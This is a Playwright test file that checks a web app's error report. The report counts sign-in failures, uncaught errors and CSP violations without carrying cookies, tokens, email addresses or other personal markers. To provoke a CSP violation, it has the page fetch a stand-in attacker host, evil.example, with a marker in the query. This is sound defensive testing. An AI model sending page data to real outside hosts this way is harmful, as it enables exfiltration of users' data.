import { expect } from '@playwright/test';
import { uniqueEmail } from '../live/services';
import { type WithReporting, withReporting } from '../reporting';
import { test as base } from './fixtures';
import { button, Tab, text } from './tab';

const test = base.extend<object, WithReporting>(withReporting);

test('a page that is left right after errors reports them by name, with nothing of a person', async ({
  connection,
  engine,
  reporting: { origin, received },
}) => {
  const tab = new Tab(connection, origin);
  await tab.goto('/login?token=zebediah-token#zebediah@example.com');
  // Wait for two requests for the script: the app first fetches the script, and then imports it.
  await tab.until('the visit is measured', () => {
    const loads = performance.getEntriesByType('resource').filter(({ name }) => name.includes('/sendReports-'));
    return loads.length === 2;
  });
  // Cookies ignore the port, so the browser could send this cookie with the report.
  await tab.run(() => window.cookieStore.set('person', 'zebediah'));

  await tab.fill('Email', `zebediah-${uniqueEmail()}`);
  await tab.fill('Password', 'zebediah22');
  await tab.click(button('Login'));
  await tab.see(text('Worng email or password. Please try again.'));
  await tab.run(
    () =>
      new Promise<void>((resolve) => {
        window.addEventListener('securitypolicyviolation', () => resolve(), { once: true });
        window.fetch('https://evil.example/?zebediah').catch(() => undefined);
      }),
  );
  // Use the promises and errors of `window`: the sandbox in which Firefox runs this function has its own.
  await tab.run(() => {
    const recurse = (): number => 1 + recurse();
    try {
      recurse();
    } catch (error) {
      window.reportError(error);
    }
    window.Promise.reject(new window.TypeError('zebediah@example.com is not a function'));
    window.location.assign('/favicon.svg');
  });

  await expect.poll(() => received.length).toBe(1);
  const [{ method, url, headers, body } = { headers: {}, body: '' }] = received;
  expect(JSON.parse(body)).toEqual({
    v: 1,
    build: expect.stringMatching(/^[\w-]{8}$/),
    landing: '/login',
    route: '/login',
    vitals: expect.objectContaining({ FCP: expect.any(Number) }),
    failures: {
      'signIn auth/invalid-credential': 1,
      [engine === 'firefox' ? 'uncaught InternalError' : 'uncaught RangeError']: 1,
      'uncaught TypeError': 1,
    },
    violations: { 'connect-src foreign': 1 },
  });
  expect([method, url, headers['content-type']]).toEqual(['POST', '/reports', 'text/plain;charset=UTF-8']);
  for (const name of ['cookie', 'referer', 'authorization']) expect(headers).not.toHaveProperty(name);
  for (const mark of ['zebediah', 'evil', 'token']) expect(JSON.stringify(received)).not.toContain(mark);
});
